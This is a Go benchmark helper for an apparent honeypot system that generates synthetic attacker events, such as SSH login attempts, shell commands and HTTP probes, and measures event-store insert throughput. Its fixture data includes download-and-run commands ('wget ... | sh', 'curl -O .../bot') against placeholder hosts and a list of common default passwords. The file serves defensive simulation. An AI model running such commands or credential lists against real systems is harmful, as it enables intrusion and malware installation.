package storetest

import (
	"fmt"
	"math/rand/v2"
	"os"
	"strconv"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	"github.com/decnet/decnet/internal/store"
)

// BatchSize is the number of events per InsertEvents call in the benchmark,
// what the master's ingester writes at a time.
var BatchSize = 500

// Events returns n realistic events starting at start: a few hundred
// attackers hitting a few dozen deckies with connections, logins from a
// common password list, commands and HTTP requests.
func Events(r *rand.Rand, start time.Time, n int) []event.Event {
	users := []string{"root", "admin", "ubuntu", "test", "oracle", "pi", "user", "git"}
	passwords := []string{"123456", "password", "admin", "root", "toor", "qwerty", "letmein", "P@ssw0rd", "changeme", "1q2w3e4r"}
	commands := []string{"uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.9/x.sh -O- | sh", "cd /tmp; curl -O http://x/bot", "nproc", "w"}
	out := make([]event.Event, n)
	for i := range out {
		ip := fmt.Sprintf("198.51.%d.%d", r.IntN(4), r.IntN(100))
		decky := fmt.Sprintf("decky-%02d", r.IntN(30))
		e := event.Event{Schema: event.SchemaVersion, ID: event.NewID(), Time: start.Add(time.Duration(i) * time.Millisecond),
			Topology: "0199d1c2-7f4e-7a31-9d2b-4c1e5f6a7b8c", Host: "0199d1c2-7f4e-7a31-9d2b-000000000001", Decky: decky,
			Session: fmt.Sprintf("%s-%d", ip, r.IntN(5)), Seq: uint64(r.IntN(20) + 1), Transport: "tcp",
			Src: &event.Endpoint{IP: ip, Port: 32768 + r.IntN(28000)}, Dst: &event.Endpoint{IP: "10.20.0.5", Port: 22}}
		switch k := r.IntN(10); {
		case k < 3:
			e.Type, e.Service = "ssh.session.open", "ssh"
			e.Fields = map[string]any{"client_version": "SSH-2.0-Go"}
		case k < 7:
			e.Type, e.Service, e.Outcome = "ssh.login.failed", "ssh", "failure"
			e.Credential = event.NewCredential("plaintext", "password", users[r.IntN(len(users))],
				[]byte(passwords[r.IntN(len(passwords))]), true)
		case k < 9:
			e.Type, e.Service = "ssh.command.input", "ssh"
			e.Fields = map[string]any{"line": commands[r.IntN(len(commands))], "cwd": "/root"}
		default:
			e.Type, e.Service = "http.request.received", "http"
			e.Dst.Port = 80
			e.Fields = map[string]any{"method": "GET", "path": "/.env", "user_agent": "Mozilla/5.0 zgrab/0.x",
				"headers": map[string]any{"accept": "*/*"}}
		}
		e.Severity = severity[e.Type]
		out[i] = e
	}
	return out
}

// BenchmarkInsertEvents inserts batches of BatchSize fresh events into s
// and reports events/s.
func BenchmarkInsertEvents(b *testing.B, s store.Store) {
	r := rand.New(rand.NewPCG(1, 2))
	start := time.Now().UTC()
	total := 0
	for b.Loop() {
		b.StopTimer()
		batch := Events(r, start.Add(time.Duration(total)*time.Millisecond), BatchSize)
		b.StartTimer()
		n, err := s.InsertEvents(b.Context(), batch)
		if err != nil {
			b.Fatal(err)
		}
		if n != BatchSize {
			b.Fatalf("stored %d new events of %d", n, BatchSize)
		}
		total += n
	}
	b.ReportMetric(float64(total)/b.Elapsed().Seconds(), "events/s")
}

func init() {
	if v, err := strconv.Atoi(os.Getenv("DECNET_BENCH_BATCH")); err == nil && v > 0 {
		BatchSize = v
	}
}
